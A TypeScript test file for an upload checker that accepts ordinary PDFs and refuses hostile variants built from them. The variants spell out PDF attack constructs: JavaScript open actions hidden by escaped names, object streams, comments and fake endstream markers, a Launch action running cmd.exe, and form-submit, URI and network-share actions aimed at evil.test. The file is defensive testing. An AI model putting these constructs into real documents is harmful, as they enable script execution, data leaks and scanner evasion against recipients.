import { describe } from 'vitest';
import * as hostile from '@verdalia/test-files/hostile-files';
import { makeRealDocuments } from '@verdalia/test-files/real-documents';
import { file, followed, judgeEach, type Case } from './support/verdict.js';

// PDFs as visitors' programs write them, and the hostile variants an attacker makes from one:
// each judged by checkFile as the API asks for it (apps/api sends a few through the server).
const real = await makeRealDocuments();

/** Chromium's PDF, updated with these objects and an addition to its catalog. */
const pdfWith = (objects: Record<number, string>, catalog: string) => () =>
  hostile.pdfUpdate(real.pdf, objects, catalog);
/** Chromium's PDF, updated with `body` and an index entry for object 90 where `mark` is in it. */
const pdfAt = (body: string, mark: string) => () =>
  hostile.pdfUpdateAt(real.pdf, body, { 90: body.indexOf(mark) }, '/OpenAction 90 0 R');
const javascriptAction = '<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>';

const accepted: Case[] = [
  file('a PDF printed by Chromium, with a web link', 'propuesta.pdf', () => real.pdf),
  file(
    'a PDF exported by LibreOffice (stream lengths in objects of their own)',
    'propuesta.pdf',
    () => real.libreofficePdf,
  ),
];

const refused: Case[] = [
  file(
    'a PDF with an executable in a page’s file attachment annotation (no name tree, no /Type)',
    'factura.pdf',
    () => hostile.pdfWithAnnotationAttachment(real.pdf, hostile.executable()),
  ),
  file(
    'a PDF whose open action opens a file on a network share (GoToR to \\\\host\\share)',
    'factura.pdf',
    pdfWith(
      {
        90: '<< /S /GoToR /F (\\\\\\\\evil.test\\\\share\\\\informe.pdf) /D [0 /Fit] /NewWindow true >>',
      },
      '/OpenAction 90 0 R',
    ),
  ),
  file(
    'a PDF whose open action submits a form',
    'factura.pdf',
    pdfWith(
      { 90: '<< /S /SubmitForm /F << /FS /URL /F (https://evil.test/collect) >> /Flags 4 >>' },
      '/OpenAction 90 0 R',
    ),
  ),
  file(
    'a PDF whose open action imports data',
    'factura.pdf',
    pdfWith({ 90: '<< /S /ImportData /F (datos.fdf) >>' }, '/OpenAction 90 0 R'),
  ),
  file(
    'a PDF whose open action fetches an address (/URI run on opening)',
    'factura.pdf',
    pdfWith({ 90: '<< /S /URI /URI (https://evil.test/pixel.png) >>' }, '/OpenAction 90 0 R'),
  ),
  file(
    'a PDF with an associated file (/AF)',
    'factura.pdf',
    pdfWith({ 90: '<< /Type /Filespec /F (datos.xml) /AFRelationship /Data >>' }, '/AF [90 0 R]'),
  ),
  file(
    'a web page with a script between %PDF-1.4 and %%EOF, named .pdf',
    'factura.pdf',
    hostile.htmlAsPdf,
  ),
  file(
    'a PDF with JavaScript run on opening (/OpenAction, /JS)',
    'factura.pdf',
    pdfWith({ 90: javascriptAction }, '/OpenAction 90 0 R'),
  ),
  file(
    'a PDF with JavaScript under #xx-escaped names',
    'factura.pdf',
    pdfWith(
      { 90: '<< /Type /Action /S /J#61va#53cript /J#53 (app.alert\\(1\\)) >>' },
      '/OpenAction 90 0 R',
    ),
  ),
  file(
    'a PDF with JavaScript inside a compressed object stream',
    'factura.pdf',
    pdfWith({ 91: hostile.objectStream({ 90: javascriptAction }) }, '/OpenAction 90 0 R'),
  ),
  file(
    'a PDF whose script object hides behind a stray stream keyword (a %endstream comment ends it)',
    'factura.pdf',
    pdfAt(`\nstream\n90 0 obj\n${javascriptAction}\nendobj\n%endstream\n`, '90 0 obj'),
  ),
  file(
    'a PDF whose index sends the reader to a script object inside a comment',
    'factura.pdf',
    pdfAt(`\n% 90 0 obj ${javascriptAction} endobj\n`, '90 0 obj'),
  ),
  file(
    'a PDF whose index sends the reader to a script object inside a string',
    'factura.pdf',
    pdfAt(`\n89 0 obj\n(90 0 obj ${javascriptAction} endobj)\nendobj\n`, '90 0 obj'),
  ),
  file(
    'a PDF whose object stream hides its script behind a fake endstream (a reader goes by /Length)',
    'factura.pdf',
    pdfWith(
      { 91: hostile.objectStream({ 90: javascriptAction }, { fakeEnd: true }) },
      '/OpenAction 90 0 R',
    ),
  ),
  file(
    'a PDF with a launch action',
    'factura.pdf',
    pdfWith(
      { 90: '<< /Type /Action /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>' },
      '/OpenAction 90 0 R',
    ),
  ),
  file(
    'a PDF with an embedded file',
    'factura.pdf',
    pdfWith(
      {
        90: '<< /Type /EmbeddedFile /Length 4 >>\nstream\nMZ\0\0\nendstream',
        91: '<< /Type /Filespec /F (factura.exe) /EF << /F 90 0 R >> >>',
        92: '<< /EmbeddedFiles << /Names [(factura.exe) 91 0 R] >> >>',
      },
      '/Names 92 0 R',
    ),
  ),
  file(
    'a PDF carrying a ZIP whose end record is 100 KiB from the end',
    'factura.pdf',
    followed(
      () => real.pdf,
      hostile.smallZip,
      () => Buffer.from(`\n%${'x'.repeat(100_000)}\n%%EOF\n`),
    ),
  ),
];

describe('PDFs: ordinary ones from real programs pass, hostile variants of them are refused', () => {
  judgeEach(accepted, refused);
});
